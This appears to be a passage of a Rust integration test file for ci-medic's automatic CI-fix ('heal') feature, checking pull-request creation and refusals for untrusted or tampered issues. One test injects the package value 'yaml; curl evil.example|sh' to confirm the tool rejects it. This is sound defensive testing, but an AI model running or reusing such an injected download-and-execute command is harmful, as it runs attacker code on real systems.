//! `heal` end to end: the real binary, real `issues` and `workflow_dispatch`
//! payloads, the stateful fake GitHub. An analyzed failure's issue becomes a
//! branch with one commit, a pull request and an issue comment; triggers
//! again update the same pull request; `needs-manual-fix` and untrusted
//! issues stop it.

use serde_json::{Value, json};

use crate::analyze_flow::{gha_log, missing_module_log};
use crate::support::action::{ActionRun, Runner, workflow_run_payload};
use crate::support::fake_github::{
    CI_WORKFLOW_PATH, DEFAULT_BRANCH, FakeGithub, Issue, IssueBuilder, JobBuilder, MAINTAINER,
    OWNER, REPO, RunBuilder,
};

/// The Python workflow the tests fail and heal.
const PY_WORKFLOW: &str = "\
name: CI
on:
  push:
    branches: [main]
  pull_request:
  workflow_dispatch:
jobs:
  test:
    name: test (${{ matrix.python }})
    runs-on: ubuntu-latest
    strategy:
      matrix:
        python: ['3.12']
    steps:
      - uses: actions/checkout@v4
      - uses: actions/setup-python@v5
        with:
          python-version: ${{ matrix.python }}
      # Keep the test dependencies short.
      - name: Install dependencies
        run: |
          python -m pip install --upgrade pip
          pip install pytest   # the runner
      - run: pytest -q
";

/// Keeps `analyze` from re-running the failed run.
const CONFIG: (&str, &str) = (".github/ci-medic.yml", "retry:\n  enabled: false\n");

/// Seeds the workflow and config, fails a run, and lets `analyze` file the issue.
pub async fn analysed_issue(fake: &FakeGithub, log: String) -> u64 {
    fake.commit_files(
        DEFAULT_BRANCH,
        &[(CI_WORKFLOW_PATH, PY_WORKFLOW), CONFIG],
        "Python CI",
    );
    analyse_failed_run(fake, log).await
}

/// Like [`analysed_issue`] with another workflow already committed.
async fn analysed_issue_with(fake: &FakeGithub, wf: &str, log: String) -> u64 {
    assert_eq!(
        fake.file(DEFAULT_BRANCH, CI_WORKFLOW_PATH).as_deref(),
        Some(wf)
    );
    fake.commit_files(DEFAULT_BRANCH, &[CONFIG], "Config");
    analyse_failed_run(fake, log).await
}

/// Fails `pytest -q` in job `test (3.12)` of the CI workflow with `log`,
/// and lets `analyze` file the one issue.
async fn analyse_failed_run(fake: &FakeGithub, log: String) -> u64 {
    analyse_run(fake, RunBuilder::new("CI"), log).await
}

/// [`analyse_failed_run`] for a run seeded from `run` (a pull request's...).
async fn analyse_run(fake: &FakeGithub, run: RunBuilder, log: String) -> u64 {
    let run = fake
        .add_run(
            run.path(CI_WORKFLOW_PATH).job(
                JobBuilder::failed("test (3.12)")
                    .step("Set up job", Some("success"))
                    .step("Run actions/checkout@v4", Some("success"))
                    .step("Run actions/setup-python@v5", Some("success"))
                    .step("Install dependencies", Some("success"))
                    .step("Run pytest -q", Some("failure"))
                    .step("Complete job", Some("success"))
                    .log(log),
            ),
        )
        .id;
    let seeded = fake.run(run).expect("run");
    let branch = seeded.head_branch.unwrap_or_default();
    let payload = workflow_run_payload(
        run,
        "CI",
        CI_WORKFLOW_PATH,
        "failure",
        &branch,
        &seeded.head_sha,
    );
    let out = Runner::new(fake).run_event("workflow_run", &payload).await;
    assert_eq!(
        out.code, 0,
        "analyze failed: {}\n{}",
        out.stderr, out.stdout
    );
    let issues = fake.issues();
    assert_eq!(issues.len(), 1, "{issues:?}");
    let labels: Vec<&str> = issues[0].labels.iter().map(String::as_str).collect();
    fake.expect_labels_created(&labels);
    issues[0].number
}

/// Changes issue `n` directly, as someone on GitHub would.
fn edit_issue(fake: &FakeGithub, n: u64, f: impl FnOnce(&mut Issue)) {
    fake.with_world(|w| {
        let (_, repo, _) = w.split(&format!("{OWNER}/{REPO}")).expect("repo");
        f(repo.issues.get_mut(&n).expect("issue"));
    });
}

/// The maintainer adds (`true`) or removes `label` on issue `n`.
fn maintainer_labels(fake: &FakeGithub, n: u64, label: &str, add: bool) {
    fake.with_world(|w| {
        let (env, repo, _) = w.split(&format!("{OWNER}/{REPO}")).expect("repo");
        if add {
            repo.add_issue_labels(env, n, &[label.to_string()], MAINTAINER);
        } else {
            repo.remove_issue_label(env, n, label, MAINTAINER);
        }
    });
}

/// The body of an analyzed issue, which is then closed so that only a
/// copy of it is in play.
async fn copied_body(fake: &FakeGithub) -> String {
    let real = analysed_issue(fake, missing_module_log(1, "tmpa1b2c3")).await;
    let body = fake.issue(real).and_then(|i| i.body).unwrap_or_default();
    edit_issue(fake, real, |i| i.state = "closed".into());
    body
}

/// A real `issues` payload (GitHub's example) for `number` as it is now.
fn issues_payload(
    fake: &FakeGithub,
    number: u64,
    action: &str,
    label: &str,
    sender: &str,
) -> Value {
    let text = std::fs::read_to_string(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/fixtures/webhooks/issues/09-labeled.json"
    ))
    .expect("fixture");
    let mut v: Value = serde_json::from_str(&text).expect("fixture json");
    let issue = fake.issue(number).expect("issue");
    v["action"] = action.into();
    v["issue"]["number"] = number.into();
    v["issue"]["title"] = issue.title.clone().into();
    v["issue"]["body"] = issue.body.clone().into();
    v["issue"]["state"] = issue.state.clone().into();
    v["issue"]["user"]["login"] = issue.user.clone().into();
    v["issue"]["labels"] = issue
        .labels
        .iter()
        .map(|l| json!({"name": l}))
        .collect::<Vec<_>>()
        .into();
    v["label"] = json!({"name": label});
    v["sender"]["login"] = sender.into();
    v["repository"]["full_name"] = format!("{OWNER}/{REPO}").into();
    v
}

async fn labeled(fake: &FakeGithub, number: u64) -> ActionRun {
    let payload = issues_payload(fake, number, "labeled", "auto-heal", MAINTAINER);
    Runner::new(fake).run_event("issues", &payload).await
}

/// A `workflow_dispatch` of ci-medic's own workflow asking to heal `number`.
async fn dispatched(fake: &FakeGithub, number: u64) -> ActionRun {
    let text = std::fs::read_to_string(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/fixtures/webhooks/workflow_dispatch/00-event.json"
    ))
    .expect("fixture");
    let mut v: Value = serde_json::from_str(&text).expect("fixture json");
    v["inputs"] = json!({"issue": number.to_string()});
    v["repository"]["full_name"] = format!("{OWNER}/{REPO}").into();
    Runner::new(fake).run_event("workflow_dispatch", &v).await
}

fn block_fingerprint(body: &str) -> String {
    let start = body.rfind("<!-- ci-medic:analysis ").expect("block") + 23;
    let end = body[start..].find(" -->").expect("end") + start;
    let v: Value = serde_json::from_str(&body[start..end]).expect("json");
    v["fingerprint"].as_str().expect("fingerprint").to_string()
}

#[tokio::test]
async fn labeled_issue_becomes_one_pull_request_and_triggers_again_update_it() {
    let fake = FakeGithub::start().await;
    let n = analysed_issue(&fake, missing_module_log(1, "tmpa1b2c3")).await;
    let body = fake.issue(n).and_then(|i| i.body).unwrap_or_default();
    let fp = block_fingerprint(&body);
    let base = fake.head_sha(DEFAULT_BRANCH);

    let out = labeled(&fake, n).await;
    assert_eq!(
        out.code, 0,
        "stderr: {}\nstdout: {}",
        out.stderr, out.stdout
    );

    // One branch, one commit on the default branch's head, the fix in it.
    let branch = format!("ci-medic/heal-{n}-{}", &fp[..8]);
    let head = fake
        .branch(&branch)
        .unwrap_or_else(|| panic!("no branch {branch}: {:?}", fake.refs()));
    let commit = fake.commit(&head).expect("commit");
    assert_eq!(commit.parents, vec![base.clone()]);
    let fixed = fake
        .file(&branch, CI_WORKFLOW_PATH)
        .expect("workflow on the branch");
    assert_eq!(
        fixed,
        PY_WORKFLOW.replace(
            "pip install pytest   # the runner",
            "pip install pytest PyYAML   # the runner"
        )
    );
    assert_eq!(
        fake.file(DEFAULT_BRANCH, CI_WORKFLOW_PATH).as_deref(),
        Some(PY_WORKFLOW)
    );

    // One pull request into the default branch, explained, labelled.
    let pulls = fake.pulls();
    assert_eq!(pulls.len(), 1, "{pulls:?}");
    let pr = &pulls[0];
    assert_eq!(pr.head_ref, branch);
    assert_eq!(pr.base_ref, DEFAULT_BRANCH);
    assert!(pr.title.contains("PyYAML"), "{}", pr.title);
    assert!(
        pr.labels.contains(&"auto-heal".to_string()),
        "{:?}",
        pr.labels
    );
    let pr_body = pr.body.clone().unwrap_or_default();
    let needles: Vec<String> = vec![
        format!("Fixes #{n}."),
        format!("<!-- ci-medic:heal:{n} -->"),
        "No module named 'yaml'".into(),
        "+          pip install pytest PyYAML   # the runner".into(),
        "`PyYAML`".into(),
        "<!-- ci-medic:heal-workflow:.github/workflows/ci.yml -->".into(),
        // What was installed and why it is the right package.
        "Why `PyYAML`: ci-medic's table of import names maps module `yaml` to it.".into(),
    ];
    for needle in &needles {
        assert!(
            pr_body.contains(needle.as_str()),
            "missing {needle:?} in\n{pr_body}"
        );
    }
    assert_snap!("heal_pull_request", format!("# {}\n\n{pr_body}", pr.title));

    // The issue points at it; the fixed workflow runs on the branch.
    let comments = fake.comments(n);
    assert_eq!(comments.len(), 1, "{comments:?}");
    assert!(
        comments[0].body.contains(&format!("Opened #{}", pr.number)),
        "{}",
        comments[0].body
    );
    assert_snap!("heal_opened_comment", comments[0].body);
    let dispatches = fake.dispatches();
    assert_eq!(dispatches.len(), 1, "{dispatches:?}");
    assert_eq!(dispatches[0].git_ref, branch);
    assert_eq!(out.outputs.get("pr-number"), Some(&pr.number.to_string()));
    fake.expect_no_reruns();

    // The same trigger again, and a dispatch: the same pull request, no new commit.
    let again = labeled(&fake, n).await;
    assert_eq!(again.code, 0, "{}", again.stderr);
    let again = dispatched(&fake, n).await;
    assert_eq!(again.code, 0, "{}", again.stderr);
    assert_eq!(fake.pulls().len(), 1, "never a second pull request");
    assert_eq!(
        fake.branch(&branch).as_deref(),
        Some(head.as_str()),
        "the branch did not move"
    );
    let comments = fake.comments(n);
    assert_eq!(comments.len(), 1, "the comment is updated, not repeated");
    assert!(
        comments[0]
            .body
            .contains(&format!("Updated #{}", pr.number)),
        "{}",
        comments[0].body
    );
    assert_snap!("heal_updated_comment", comments[0].body);
    assert_eq!(
        fake.dispatches().len(),
        1,
        "no new verification for an unchanged branch"
    );
    fake.assert_clean();
}

#[tokio::test]
async fn a_changed_fix_force_updates_the_same_branch_and_pull_request() {
    let fake = FakeGithub::start().await;
    let n = analysed_issue(&fake, missing_module_log(1, "tmpa1b2c3")).await;
    assert_eq!(labeled(&fake, n).await.code, 0);
    let pr = fake.pulls()[0].clone();
    let first_head = fake.branch(&pr.head_ref).expect("branch");
    fake.expect_comment(n, |b| b.contains(&format!("Opened #{}", pr.number)));
    fake.expect_dispatches(&[&pr.head_ref]);

    // The default branch moves on (a new comment line in the install step).
    let moved = PY_WORKFLOW.replace(
        "      # Keep the test",
        "      # Pinned by hand.\n      # Keep the test",
    );
    let new_base = fake.commit_files(
        DEFAULT_BRANCH,
        &[(CI_WORKFLOW_PATH, &moved)],
        "Document the install",
    );
    let out = labeled(&fake, n).await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    let pulls = fake.pulls();
    assert_eq!(pulls.len(), 1);
    assert_eq!(pulls[0].number, pr.number);
    let head = fake.branch(&pr.head_ref).expect("branch");
    assert_ne!(head, first_head);
    assert_eq!(fake.commit(&head).map(|c| c.parents), Some(vec![new_base]));
    let fixed = fake
        .file(&pr.head_ref, CI_WORKFLOW_PATH)
        .unwrap_or_default();
    assert!(fixed.contains("      # Pinned by hand.\n"), "{fixed}");
    assert!(
        fixed.contains("pip install pytest PyYAML   # the runner"),
        "{fixed}"
    );
    fake.expect_comment(n, |b| b.contains(&format!("Updated #{}", pr.number)));
    assert_eq!(
        fake.dispatches().len(),
        2,
        "the new commit is verified again"
    );
    fake.expect_no_reruns();
    fake.assert_clean();
}

#[tokio::test]
async fn requirements_files_get_the_missing_distribution() {
    let fake = FakeGithub::start().await;
    let wf = PY_WORKFLOW.replace(
        "pip install pytest   # the runner",
        "pip install -r requirements-dev.txt",
    );
    fake.commit_files(
        DEFAULT_BRANCH,
        &[
            (CI_WORKFLOW_PATH, &wf),
            ("requirements-dev.txt", "pytest==8.2.0\n"),
        ],
        "Requirements",
    );
    let n = analysed_issue_with(&fake, &wf, missing_module_log(3, "tmpq")).await;
    let out = labeled(&fake, n).await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    let pr = fake.pulls().pop().expect("pull request");
    assert_eq!(
        fake.file(&pr.head_ref, "requirements-dev.txt").as_deref(),
        Some("pytest==8.2.0\nPyYAML\n")
    );
    assert_eq!(
        fake.file(&pr.head_ref, CI_WORKFLOW_PATH).as_deref(),
        Some(wf.as_str())
    );
    assert!(pr.title.contains("requirements-dev.txt"), "{}", pr.title);
    fake.expect_comment(n, |b| b.contains(&format!("Opened #{}", pr.number)));
    fake.expect_dispatches(&[&pr.head_ref]);
    fake.expect_no_reruns();
    fake.assert_clean();
}

#[tokio::test]
async fn needs_manual_fix_stops_heal() {
    let fake = FakeGithub::start().await;
    let n = analysed_issue(&fake, missing_module_log(1, "tmpa1b2c3")).await;
    maintainer_labels(&fake, n, "needs-manual-fix", true);
    let out = labeled(&fake, n).await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    let out = dispatched(&fake, n).await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(out.stdout.contains("needs a manual fix"), "{}", out.stdout);
    assert!(fake.pulls().is_empty());
    assert!(fake.comments(n).is_empty());
    assert!(
        fake.requests_to("POST", r"/git/").is_empty(),
        "nothing committed"
    );
    fake.assert_clean();
}

#[tokio::test]
async fn without_auto_heal_nothing_happens() {
    let fake = FakeGithub::start().await;
    let n = analysed_issue(&fake, missing_module_log(1, "tmpa1b2c3")).await;
    maintainer_labels(&fake, n, "auto-heal", false);
    let out = dispatched(&fake, n).await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(
        out.stdout.contains("lacks the `auto-heal`"),
        "{}",
        out.stdout
    );
    assert!(fake.pulls().is_empty());
    assert!(fake.comments(n).is_empty());
    fake.assert_clean();
}

/// An issue by someone else holding a copy of a real analysis block.
async fn copied_issue(fake: &FakeGithub, author: &str) -> u64 {
    let body = copied_body(fake).await;
    fake.set_permission(author, "read");
    fake.add_issue(
        IssueBuilder::new("CI: dependency in test (3.12)")
            .body(&body)
            .user(author)
            .label("auto-heal")
            .label("workflow-failure"),
    )
}

#[tokio::test]
async fn untrusted_issues_get_one_explanation_and_no_pull_request() {
    let fake = FakeGithub::start().await;
    let n = copied_issue(&fake, "mallory").await;
    for _ in 0..2 {
        let payload = issues_payload(&fake, n, "labeled", "auto-heal", "mallory");
        let out = Runner::new(&fake).run_event("issues", &payload).await;
        assert_eq!(out.code, 0, "{}", out.stderr);
    }
    let comments = fake.comments(n);
    assert_eq!(comments.len(), 1, "{comments:?}");
    let c = &comments[0].body;
    assert!(
        c.starts_with(&format!("<!-- ci-medic:heal-refused:{n} -->")),
        "{c}"
    );
    assert!(c.contains("write access"), "{c}");
    assert!(!c.contains("@mallory"), "no live mention: {c}");
    assert_snap!("heal_refused_comment", c);
    assert!(fake.pulls().is_empty());
    assert!(
        fake.requests_to("POST", r"/git/").is_empty(),
        "nothing committed"
    );
    fake.expect_issue_untouched(n);
    fake.assert_clean();
}

#[tokio::test]
async fn a_maintainers_label_does_not_vouch_for_someone_elses_issue() {
    let fake = FakeGithub::start().await;
    let body = copied_body(&fake).await;
    let n = fake.add_issue(
        IssueBuilder::new("Copied by a contributor")
            .body(&body)
            .user("contributor")
            .label("workflow-failure"),
    );
    maintainer_labels(&fake, n, "auto-heal", true);
    let out = labeled(&fake, n).await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(fake.pulls().is_empty());
    assert!(
        fake.requests_to("POST", r"/git/").is_empty(),
        "nothing committed"
    );
    let comments = fake.comments(n);
    assert_eq!(comments.len(), 1, "{comments:?}");
    assert!(
        comments[0]
            .body
            .contains("only from issues it filed itself"),
        "{}",
        comments[0].body
    );
    fake.assert_clean();
}

/// `body` with `edit` applied and its digest recomputed, as someone with
/// write access who knows how ci-medic seals its bodies could do.
fn forged(body: &str, edit: impl Fn(&str) -> String) -> String {
    use sha2::Digest as _;
    let field = |d: &str| format!("\"body_sha256\":\"{d}\"");
    let start = body.rfind("\"body_sha256\":\"").expect("digest") + 15;
    let old = &body[start..start + 64];
    let zeros = "0".repeat(64);
    let unsealed = edit(&body.replace(&field(old), &field(&zeros)));
    let digest: String = sha2::Sha256::digest(unsealed.as_bytes())
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect();
    unsealed.replace(&field(&zeros), &field(&digest))
}

#[tokio::test]
async fn an_edited_issue_body_is_refused() {
    let fake = FakeGithub::start().await;
    let n = analysed_issue(&fake, missing_module_log(1, "tmpa1b2c3")).await;
    let body = fake.issue(n).and_then(|i| i.body).unwrap_or_default();
    // Someone changes a word of the prose; the block is left alone.
    let edited = body.replacen("### Failed jobs", "### Failed jobs (see below)", 1);
    assert_ne!(edited, body);
    edit_issue(&fake, n, |i| i.body = Some(edited.clone()));
    let out = labeled(&fake, n).await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(fake.pulls().is_empty());
    assert!(
        fake.requests_to("POST", r"/git/").is_empty(),
        "nothing committed"
    );
    assert!(fake.dispatches().is_empty());
    let comments = fake.comments(n);
    assert_eq!(comments.len(), 1, "{comments:?}");
    let c = &comments[0].body;
    assert!(
        c.starts_with(&format!("<!-- ci-medic:heal-refused:{n} -->")),
        "{c}"
    );
    assert!(c.contains("edited after ci-medic wrote it"), "{c}");
    fake.assert_clean();
}

#[tokio::test]
async fn hostile_analysis_blocks_are_not_acted_on() {
    let fake = FakeGithub::start().await;
    let n = analysed_issue(&fake, missing_module_log(1, "tmpa1b2c3")).await;
    // The bot's own issue, but a package name that tries to run a command,
    // with the body's digest recomputed: the block's own checks refuse it.
    let body = fake.issue(n).and_then(|i| i.body).unwrap_or_default();
    let hostile = forged(&body, |b| {
        b.replace(
            "\"package\":\"yaml\"",
            "\"package\":\"yaml; curl evil.example|sh\"",
        )
    });
    assert_ne!(hostile, body);
    edit_issue(&fake, n, |i| i.body = Some(hostile.clone()));
    let out = labeled(&fake, n).await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(fake.pulls().is_empty());
    let comments = fake.comments(n);
    assert_eq!(comments.len(), 1);
    assert!(comments[0].body.contains("refused"), "{}", comments[0].body);
    assert_snap!("heal_hostile_block_comment", comments[0].body);
    assert!(
        fake.issue(n)
            .is_some_and(|i| i.labels.contains(&"needs-manual-fix".to_string()))
    );
    fake.expect_labels_created(&["needs-manual-fix"]);
    fake.assert_clean();
}

#[tokio::test]
async fn a_fork_pull_requests_failure_never_leads_to_a_branch_pull_request_or_dispatch() {
    let fake = FakeGithub::start().await;
    fake.commit_files(
        DEFAULT_BRANCH,
        &[(CI_WORKFLOW_PATH, PY_WORKFLOW), CONFIG],
        "Python CI",
    );
    let sha = fake.head_sha(DEFAULT_BRANCH);
    let run = RunBuilder::new("CI")
        .event("pull_request")
        .head_branch("patch-1")
        .head_sha(&sha)
        .head_repository("mallory/octo-repo");
    let n = analyse_run(&fake, run, missing_named_module_log("evilpkg")).await;
    let out = labeled(&fake, n).await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(fake.pulls().is_empty());
    assert!(
        fake.requests_to("POST", r"/git/").is_empty(),
        "nothing committed"
    );
    assert!(fake.dispatches().is_empty(), "nothing dispatched");
    assert_eq!(fake.refs().len(), 1, "no branch: {:?}", fake.refs());
    let comments = fake.comments(n);
    assert_eq!(comments.len(), 1, "{comments:?}");
    let c = &comments[0].body;
    assert!(
        c.starts_with(&format!("<!-- ci-medic:heal-manual:{n} -->")),
        "{c}"
    );
    assert!(c.contains("does not act on this failure"), "{c}");
    // (Markdown escapes aside.)
    assert!(c.replace('\\', "").contains("`pull_request` event"), "{c}");
    assert!(
        fake.issue(n)
            .is_some_and(|i| i.labels.contains(&"needs-manual-fix".to_string()))
    );
    // The issue recorded where the run came from.
    let body = fake.issue(n).and_then(|i| i.body).unwrap_or_default();
    assert!(
        body.contains("\"head_repository\":\"mallory/octo-repo\""),
        "{body}"
    );
    fake.expect_labels_created(&["needs-manual-fix"]);
    fake.expect_no_reruns();
    fake.assert_clean();
}

#[tokio::test]
async fn a_branch_that_is_not_trusted_is_not_healed() {
    let fake = FakeGithub::start().await;
    fake.commit_files(
        DEFAULT_BRANCH,
        &[(CI_WORKFLOW_PATH, PY_WORKFLOW), CONFIG],
        "Python CI",
    );
    let sha = fake.head_sha(DEFAULT_BRANCH);
    fake.set_branch("experiment", &sha);
    // A push run of the base repository, but not on the default branch.
    let run = RunBuilder::new("CI").head_branch("experiment");
    let n = analyse_run(&fake, run, missing_module_log(1, "tmpa1b2c3")).await;
    let out = labeled(&fake, n).await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(fake.pulls().is_empty());
    let comments = fake.comments(n);
    assert!(
        comments[0]
            .body
            .replace('\\', "")
            .contains("`heal.trusted-branches`"),
        "{}",
        comments[0].body
    );
    assert!(fake.dispatches().is_empty(), "nothing dispatched");
    fake.expect_labels_created(&["needs-manual-fix"]);

    // Once configured as trusted, it is.
    fake.commit_files(
        DEFAULT_BRANCH,
        &[(
            ".github/ci-medic.yml",
            "retry:\n  enabled: false\nheal:\n  trusted-branches: [experiment]\n",
        )],
        "Trust the experiment branch",
    );
    edit_issue(&fake, n, |i| i.labels.retain(|l| l != "needs-manual-fix"));
    let out = labeled(&fake, n).await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    let pulls = fake.pulls();
    assert_eq!(pulls.len(), 1);
    assert!(fake.branch(&pulls[0].head_ref).is_some());
    fake.expect_latest_comment(n, |b| b.contains(&format!("Opened #{}", pulls[0].number)));
    fake.expect_dispatches(&[&pulls[0].head_ref]);
    fake.expect_no_reruns();
    fake.expect_no_labels_created();
    fake.assert_clean();
}

#[tokio::test]
async fn a_re_trigger_by_someone_without_write_access_is_refused() {
    let fake = FakeGithub::start().await;
    let n = analysed_issue(&fake, missing_module_log(1, "tmpa1b2c3")).await;
    fake.set_permission("mallory", "triage");
    let payload = issues_payload(&fake, n, "reopened", "auto-heal", "mallory");
    let out = Runner::new(&fake).run_event("issues", &payload).await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(fake.pulls().is_empty());
    let comments = fake.comments(n);
    assert_eq!(comments.len(), 1, "{comments:?}");
    assert!(
        comments[0]
            .body
            .contains("who triggered this, has triage access"),
        "{}",
        comments[0].body
    );
    fake.assert_clean();
}

#[tokio::test]
async fn failures_without_a_fix_are_handed_to_people() {
    let fake = FakeGithub::start().await;
    let log = gha_log(
        4,
        "pytest -q",
        &["FAILED tests/test_api.py::test_get - AssertionError: assert 404 == 200"],
    );
    let n = analysed_issue(&fake, log).await;
    let out = labeled(&fake, n).await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(fake.pulls().is_empty());
    let comments = fake.comments(n);
    assert_eq!(comments.len(), 1, "{comments:?}");
    assert!(
        comments[0]
            .body
            .starts_with(&format!("<!-- ci-medic:heal-manual:{n} -->")),
        "{}",
        comments[0].body
    );
    assert!(
        comments[0].body.contains("no automatic fix"),
        "{}",
        comments[0].body
    );
    assert_snap!("heal_manual_comment", comments[0].body);
    let labels = fake.issue(n).map(|i| i.labels).unwrap_or_default();
    assert!(
        labels.contains(&"needs-manual-fix".to_string()),
        "{labels:?}"
    );
    assert_eq!(
        out.outputs.get("fixable").map(String::as_str),
        Some("false")
    );
    fake.expect_labels_created(&["needs-manual-fix"]);
    fake.assert_clean();
}

#[tokio::test]
async fn dry_run_plans_the_pull_request_and_writes_nothing() {
    let fake = FakeGithub::start().await;
    let n = analysed_issue(&fake, missing_module_log(1, "tmpa1b2c3")).await;
    let payload = issues_payload(&fake, n, "labeled", "auto-heal", MAINTAINER);
    let out = Runner::new(&fake)
        .env("INPUT_DRY-RUN", "true")
        .run_event("issues", &payload)
        .await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(out.stdout.contains("open pull request"), "{}", out.stdout);
    assert!(
        out.stdout
            .contains("commit .github/workflows/ci.yml to branch ci-medic/heal-"),
        "{}",
        out.stdout
    );
    assert!(fake.pulls().is_empty());
    assert!(fake.comments(n).is_empty());
    assert!(fake.requests_to("POST", r"/git/").is_empty());
    fake.assert_clean();
}

#[tokio::test]
async fn a_dry_run_heal_prints_every_write_in_one_plan() {
    let fake = FakeGithub::start().await;
    let n = analysed_issue(&fake, missing_module_log(1, "tmpa1b2c3")).await;
    let fp = block_fingerprint(&fake.issue(n).and_then(|i| i.body).unwrap_or_default());
    let branch = format!("ci-medic/heal-{n}-{}", &fp[..8]);
    let payload = issues_payload(&fake, n, "labeled", "auto-heal", MAINTAINER);
    let out = Runner::new(&fake)
        .env("INPUT_DRY-RUN", "true")
        .run_event("issues", &payload)
        .await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    // One plan: the writes after the pull request are shown with it, each
    // waiting for what it needs, not left to a second plan.
    assert_eq!(
        out.stdout.matches("write(s) planned").count(),
        1,
        "{}",
        out.stdout
    );
    let expected = [
        "heal: 5 write(s) planned".to_string(),
        format!("1. commit .github/workflows/ci.yml to branch {branch}"),
        "2. ensure label `auto-heal` exists".into(),
        "3. open pull request \"".into(),
        format!("4. comment on #{n}: A pull request to fix this is planned (dry run)"),
        "after commit-files-1, ensure-label-2, open-pull-request-3".into(),
        "naming what open-pull-request-3 opens or updates".into(),
        format!("5. dispatch workflow ci.yml on {branch}"),
    ];
    let mut at = 0;
    for line in &expected {
        let found = out.stdout[at..]
            .find(line.as_str())
            .unwrap_or_else(|| panic!("missing {line:?} after byte {at} in\n{}", out.stdout));
        at += found + line.len();
    }
    assert!(fake.pulls().is_empty());
    assert!(fake.comments(n).is_empty());
    assert!(fake.dispatches().is_empty());
    assert!(fake.requests_to("POST", r"/git/").is_empty());
    fake.assert_clean();
}

#[tokio::test]
async fn a_verification_run_is_reported_on_the_pull_request() {
    let fake = FakeGithub::start().await;
    let n = analysed_issue(&fake, missing_module_log(1, "tmpa1b2c3")).await;
    assert_eq!(labeled(&fake, n).await.code, 0);
    let pr = fake.pulls().pop().expect("pull request");
    assert!(fake.branch(&pr.head_ref).is_some());
    fake.expect_comment(n, |b| b.contains(&format!("Opened #{}", pr.number)));
    // The run ci-medic's own dispatch started finishes.
    let dispatches = fake.dispatches();
    let run = dispatches[0].run_id.expect("the dispatch started a run");
    fake.update_run(run, |r, _| {
        r.status = "completed".into();
        r.conclusion = Some("success".into());
    });
    let sha = fake.run(run).map(|r| r.head_sha).unwrap_or_default();
    assert_eq!(sha, pr.head_sha);
    let payload = workflow_run_payload(run, "CI", CI_WORKFLOW_PATH, "success", &pr.head_ref, &sha);
    let out = Runner::new(&fake).run_event("workflow_run", &payload).await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    let comments = fake.comments(pr.number);
    assert_eq!(comments.len(), 1, "{comments:?}");
    assert!(
        comments[0]
            .body
            .contains("passed: the fix healed the workflow"),
        "{}",
        comments[0].body
    );
    assert_snap!("heal_verified_comment", comments[0].body);
    fake.expect_no_reruns();
    fake.assert_clean();
}

#[tokio::test]
async fn a_spoofed_verification_run_is_ignored() {
    let fake = FakeGithub::start().await;
    let n = analysed_issue(&fake, missing_module_log(1, "tmpa1b2c3")).await;
    assert_eq!(labeled(&fake, n).await.code, 0);
    let pr = fake.pulls().pop().expect("pull request");
    assert!(fake.branch(&pr.head_ref).is_some());
    fake.expect_comment(n, |b| b.contains(&format!("Opened #{}", pr.number)));
    fake.expect_dispatches(&[&pr.head_ref]);
    fake.expect_no_reruns();
    // A fork's pull request from a branch named like the fix's passes.
    let spoofed = fake
        .add_run(
            RunBuilder::new("CI")
                .path(CI_WORKFLOW_PATH)
                .event("pull_request")
                .head_branch(&pr.head_ref)
                .head_repository("mallory/octo-repo")
                .actor("mallory")
                .job(JobBuilder::new("test (3.12)")),
        )
        .id;
    let sha = fake.run(spoofed).map(|r| r.head_sha).unwrap_or_default();
    let payload = workflow_run_payload(
        spoofed,
        "CI",
        CI_WORKFLOW_PATH,
        "success",
        &pr.head_ref,
        &sha,
    );
    let out = Runner::new(&fake).run_event("workflow_run", &payload).await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(
        out.stdout.contains("is not a verification of a fix"),
        "{}",
        out.stdout
    );
    assert!(fake.comments(pr.number).is_empty(), "nothing announced");
    fake.expect_no_dispatches();
    fake.expect_no_reruns();
    fake.assert_clean();
}

/// A log whose test collection fails on `import <module>`.
fn missing_named_module_log(module: &str) -> String {
    gha_log(
        2,
        "pytest -q",
        &[
            "tests/test_config.py:1: in <module>",
            &format!("    import {module}"),
            &format!("E   ModuleNotFoundError: No module named '{module}'"),
            "ERROR tests/test_config.py",
        ],
    )
}

#[tokio::test]
async fn an_unknown_module_the_repository_names_is_installed() {
    let fake = FakeGithub::start().await;
    fake.commit_files(
        DEFAULT_BRANCH,
        &[
            (CI_WORKFLOW_PATH, PY_WORKFLOW),
            ("requirements.txt", "# runtime\ntmpq-lib==1.4\n"),
        ],
        "Requirements",
    );
    let n = analysed_issue_with(&fake, PY_WORKFLOW, missing_named_module_log("tmpq_lib")).await;
    let out = labeled(&fake, n).await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    let pr = fake.pulls().pop().expect("pull request");
    assert_eq!(
        fake.file(&pr.head_ref, CI_WORKFLOW_PATH).as_deref(),
        Some(
            PY_WORKFLOW
                .replace(
                    "pip install pytest   # the runner",
                    "pip install pytest tmpq-lib   # the runner"
                )
                .as_str()
        )
    );
    let body = pr.body.unwrap_or_default();
    assert!(
        body.contains("the repository's own `requirements.txt` names this distribution"),
        "{body}"
    );
    fake.expect_comment(n, |b| b.contains(&format!("Opened #{}", pr.number)));
    fake.expect_dispatches(&[&pr.head_ref]);
    fake.expect_no_reruns();
    fake.assert_clean();
}

#[tokio::test]
async fn an_unknown_module_nobody_names_needs_a_manual_fix() {
    let fake = FakeGithub::start().await;
    fake.commit_files(
        DEFAULT_BRANCH,
        &[
            (CI_WORKFLOW_PATH, PY_WORKFLOW),
            ("requirements.txt", "requests\n"),
        ],
        "Requirements",
    );
